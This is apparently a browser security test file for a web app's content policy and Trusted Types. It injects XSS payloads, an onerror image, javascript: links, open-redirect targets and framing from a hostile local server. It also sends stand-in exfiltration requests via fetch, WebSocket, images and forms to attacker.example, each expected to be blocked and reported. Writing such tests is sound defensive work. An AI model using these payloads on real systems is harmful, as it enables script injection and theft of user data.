/**
 * Attacks on the app as delivered, with its headers, content policy and Trusted Types. None may succeed, and the browser must
 * report each of them and nothing else.
 */
import { createServer } from "node:http";
import type { AddressInfo } from "node:net";
import type { Page } from "playwright-core";
import { test } from "uvu";
import * as assert from "uvu/assert";
import { newCustomer } from "../backend/newCustomer.ts";
import { openPages } from "../support/pages.ts";
import { poll } from "../support/poll.ts";
import { takeSession } from "../support/session.ts";
import { sendLogin } from "./loginForm.ts";

const { backend, visit } = await openPages(test);

interface Watching {
  /** Set by an attack that succeeds. */
  hacked?: boolean;
  /** Violated directives of the content policy, in order. */
  reports?: string[];
}

/** A visitor whose pages record policy violations, with that account's session. */
async function watchful(email?: string) {
  const visitor = await visit();
  await visitor.page.addInitScript(() => {
    const watching = globalThis as Watching;
    const reports: string[] = [];
    watching.reports = reports;
    document.addEventListener("securitypolicyviolation", ({ effectiveDirective }) => {
      if (reports.at(-1) !== effectiveDirective) reports.push(effectiveDirective);
    });
  });
  if (email) await takeSession(visitor.page, backend, email);
  return visitor;
}

/** The reports since the last call. */
const takeReports = (page: Page) =>
  page.evaluate(async () => {
    // Reports arrive in tasks of their own, all of them within two frames.
    await new Promise((painted) => requestAnimationFrame(() => requestAnimationFrame(painted)));
    return (globalThis as Watching).reports?.splice(0) ?? [];
  });

const wasHacked = (page: Page) => page.evaluate(() => (globalThis as Watching).hacked === true);

const attempts: { name: string; forbids: string; run: () => unknown }[] = [];

/** What an injected script or markup might do, and the directive that blocks it. */
const attempt = (name: string, forbids: string, run: () => unknown) => attempts.push({ name, forbids, run });

attempt("an inline script", "require-trusted-types-for", () => {
  const script = document.createElement("script");
  script.textContent = "globalThis.hacked = true";
  document.body.append(script);
});
attempt("an inline script, assembled from text nodes", "require-trusted-types-for", () => {
  const script = document.createElement("script");
  script.append("globalThis.hacked = true");
  document.body.append(script);
});
attempt("a script of another origin", "require-trusted-types-for", () => {
  const script = document.createElement("script");
  script.src = "https://attacker.example/x.js";
  document.body.append(script);
});
attempt("markup with a handler", "require-trusted-types-for", () => {
  document.body.innerHTML = '<img src="x" onerror="globalThis.hacked = true">';
});
attempt("an inline handler", "require-trusted-types-for", () => {
  const button = document.createElement("button");
  button.setAttribute("onclick", "globalThis.hacked = true");
  button.click();
});
attempt("a javascript: link", "script-src-elem", () => {
  const link = document.createElement("a");
  link.href = "javascript:globalThis.hacked=true";
  document.body.append(link);
  link.click();
});
// In a task of its own, because code evaluated by the driver is exempt from the policy.
attempt(
  "evaluated text",
  "require-trusted-types-for",
  () => void setTimeout(() => new Function("globalThis.hacked = true")()),
);
attempt("a policy of its own", "trusted-types", () => {
  const page = window as unknown as {
    trustedTypes: { createPolicy(name: string, rules: object): unknown };
  };
  page.trustedTypes.createPolicy("attacker", { createHTML: (text: string) => text });
});
attempt("another worker", "require-trusted-types-for", () => new Worker("/assets/other.js"));
attempt("sending secrets away", "connect-src", () => fetch("https://attacker.example/?token"));
attempt(
  "sending secrets away through a socket",
  "connect-src",
  () => new WebSocket("wss://attacker.example/"),
);
attempt("sending secrets away in a picture's address", "img-src", () => {
  new Image().src = "https://attacker.example/?token";
});
attempt("a form that leads away", "form-action", () => {
  const form = document.createElement("form");
  form.action = "https://attacker.example/";
  document.body.append(form);
  form.submit();
});
attempt("a foreign frame", "frame-src", () => {
  const frame = document.createElement("iframe");
  frame.src = "https://attacker.example/";
  document.body.append(frame);
});
attempt("another base address", "base-uri", () => {
  const base = document.createElement("base");
  base.href = "https://attacker.example/";
  document.head.append(base);
});
attempt("a foreign stylesheet", "style-src-elem", () => {
  const link = document.createElement("link");
  link.rel = "stylesheet";
  link.href = "https://attacker.example/x.css";
  document.head.append(link);
});

test("injected code neither runs nor sends anything, also after the narrowed policy's element is removed", async () => {
  const { page } = await watchful();
  await page.goto("/auth/login");
  // The policy is narrowed before the first request to an address from config.json.
  await page.waitForFunction(
    () => document.querySelectorAll("meta[http-equiv=Content-Security-Policy]").length > 1,
  );
  assert.equal(await takeReports(page), [], "starting the app violates nothing");
  const reported: Record<string, readonly string[]> = {};
  for (const { name, run } of attempts) {
    await page.evaluate(run).catch(() => {}); // blocked calls may throw
    // Another process refuses a frame's address, so its report comes at any time.
    await page.waitForFunction(() => ((globalThis as Watching).reports?.length ?? 0) > 0);
    reported[name] = await takeReports(page);
    assert.not(await wasHacked(page), name);
    assert.is(new URL(page.url()).pathname, "/auth/login", name);
  }
  assert.equal(reported, Object.fromEntries(attempts.map(({ name, forbids }) => [name, [forbids]])));
  await page.evaluate(() => {
    for (const policy of document.querySelectorAll("meta[http-equiv]")) policy.remove();
    return fetch("https://attacker.example/").catch(() => {});
  });
  assert.equal(await takeReports(page), ["connect-src"]);
});

test("code that a PDF gets to run in its reader evaluates nothing and sends nothing away", async () => {
  const { email } = await newCustomer(backend);
  const { page } = await watchful(email);
  const starts = page.waitForEvent("worker", (worker) => worker.url().endsWith("/worker.js"));
  await page.goto("/customer/avv");
  const reader = await starts;
  await page.getByRole("figure", { name: "Seite 1 von" }).locator("canvas").waitFor();
  await reader.evaluate(() => {
    const reports: string[] = [];
    Object.assign(globalThis, { reports });
    addEventListener("securitypolicyviolation", ({ effectiveDirective }) => reports.push(effectiveDirective));
    void fetch("https://attacker.example/?token").catch(() => {});
    // In a task of its own, as above.
    setTimeout(() => new Function("")());
  });
  const reports = () => reader.evaluate(() => (globalThis as Watching).reports?.sort().join());
  await poll(async () => (await reports()) === "connect-src,script-src", "a report of each");
});

test("no other site can frame the app", async () => {
  const attacker = createServer((_, response) => {
    response.writeHead(200, { "content-type": "text/html" });
    response.end(`<link rel="icon" href="data:,"><iframe src="${backend.url}/auth/login"></iframe>`);
  });
  await new Promise<void>((listening) => attacker.listen(0, "127.0.0.1", listening));
  const { port } = attacker.address() as AddressInfo;
  const { page, complaints } = await visit();
  await page.goto(`http://127.0.0.1:${port}/`);
  assert.is(await page.frameLocator("iframe").getByLabel("E-Mail").count(), 0);
  assert.match(complaints.join("\n"), /frame-ancestors/);
  attacker.close();
  attacker.closeAllConnections();
});

const CUSTOMER = "kunde@musterbau.example";

test("after the sign-in nobody is led away: only an address of the app is followed", async () => {
  const targets = ["https://attacker.example/", "//attacker.example/", "javascript:hacked=true", "/outbox"];
  const { page } = await visit();
  const asked: string[] = [];
  page.on("request", (request) => asked.push(request.url()));
  for (const target of targets) {
    await page.goto(
      `/auth/login?target=${encodeURIComponent(target)}&redirect=${encodeURIComponent(target)}`,
    );
    await page.evaluate((to) => history.replaceState({ index: 0, state: { target: to } }, ""), target);
    await page.reload();
    await sendLogin(page, CUSTOMER);
    await page.getByRole("heading", { level: 1, name: "Ihre Dokumente" }).waitFor();
    assert.is(page.url(), `${backend.url}/customer`, target);
    assert.equal(
      asked.filter((url) => !url.startsWith(backend.url) && !/^(blob|data):/.test(url)),
      [],
    );
    assert.not(await wasHacked(page));
    await page.evaluate(() => sessionStorage.clear());
  }
});

test("markup in names and values is shown as text", async () => {
  const markup = `<img src=x onerror="globalThis.hacked=true">'"><script>globalThis.hacked=true</script>`;
  const of = backend.world.customers.find(({ assets }) => assets.length > 0);
  const asset = of?.assets[0];
  const field = asset?.fields[0];
  assert.ok(of && asset && field);
  of.name = markup;
  asset.assettype_name = markup;
  field.value = "javascript:globalThis.hacked=true";
  const visitor = await watchful("admin@nordwind.example");
  const { page } = visitor;
  await page.goto("/admin/customers?search=%3Cimg");
  await page.getByRole("link", { name: markup }).first().click();
  await page.getByRole("heading", { level: 1, name: markup }).waitFor();
  await page.getByRole("link", { name: markup }).first().click();
  await page.getByText(field.value).first().waitFor();
  assert.is(await page.locator('a[href^="javascript"]').count(), 0);
  assert.equal(await takeReports(page), []);
  assert.not(await wasHacked(page));
  visitor.complainsOnlyOf();
});

test.run();
